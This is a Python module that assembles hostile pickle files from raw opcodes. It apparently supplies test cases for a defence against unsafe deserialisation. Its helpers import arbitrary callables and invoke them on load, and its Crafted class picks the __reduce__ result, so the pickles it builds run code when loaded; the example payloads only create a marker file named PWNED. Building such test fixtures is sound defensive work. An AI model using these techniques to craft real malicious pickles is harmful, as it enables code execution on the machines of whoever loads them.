"""What hostile files are made of: a small assembler for pickles."""

import pickle
import struct
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

COMMAND = "touch PWNED"
CODE = "open('PWNED', 'w').close()"


@dataclass
class Payload:
    """One hostile file.

    effect is what happens without a defence: "ran", "opened", "changed",
    "crashed" or "exhausted"; beside holds files that must lie next to it;
    asked is what predict() is given, if not X.
    """

    name: str
    family: str
    about: str
    data: bytes
    effect: str = "ran"
    suffix: str = "pkl"
    beside: dict[str, bytes] = field(default_factory=dict)
    asked: list[str] | None = None


class Code(bytes):
    """Instructions that leave one thing on the stack."""


def put(value) -> Code:
    """Return the instructions that put a value on the stack."""
    match value:
        case Code():
            return value
        case None:
            return Code(pickle.NONE)
        case str():
            data = value.encode()
            return Code(pickle.BINUNICODE + struct.pack("<I", len(data)) + data)
        case bytes():
            return Code(pickle.BINBYTES + struct.pack("<I", len(value)) + value)
        case int():
            return Code(pickle.BININT + struct.pack("<i", value))
        case list():
            items = b"".join(map(put, value))
            return Code(
                pickle.EMPTY_LIST + pickle.MARK + items + pickle.APPENDS
            )
        case tuple():
            return Code(pickle.MARK + b"".join(map(put, value)) + pickle.TUPLE)
        case dict():
            items = [put(k) + put(v) + pickle.SETITEM for k, v in value.items()]
            return Code(pickle.EMPTY_DICT + b"".join(items))


def name(text: str) -> Code:
    """Return the instructions that import "module:name"."""
    module, _, attribute = text.partition(":")
    return Code(put(module) + put(attribute) + pickle.STACK_GLOBAL)


def call(function: str | Code, *arguments) -> Code:
    """Return the instructions that call "module:name" or what is on top."""
    function = function if isinstance(function, Code) else name(function)
    return Code(function + put(arguments) + pickle.REDUCE)


def new(kind: str, *arguments) -> Code:
    """Return the instructions that make an object, without REDUCE."""
    return Code(name(kind) + put(arguments) + pickle.NEWOBJ)


def build(thing: Code, state) -> Code:
    """Return the instructions that set the state of a thing."""
    return Code(thing + put(state) + pickle.BUILD)


def whole(body: bytes) -> bytes:
    """Return a pickle of protocol 4 with these instructions."""
    return pickle.PROTO + b"\x04" + body + pickle.STOP


class Crafted:
    """Pickles as what a __reduce__ of our choice returns."""

    def __init__(self, function: Callable, arguments: tuple, *more: Any):
        """Take what loading calls, with what, and what else it does."""
        self.reduced = function, arguments, *more

    def __reduce__(self) -> tuple:
        """Return what was given."""
        return self.reduced
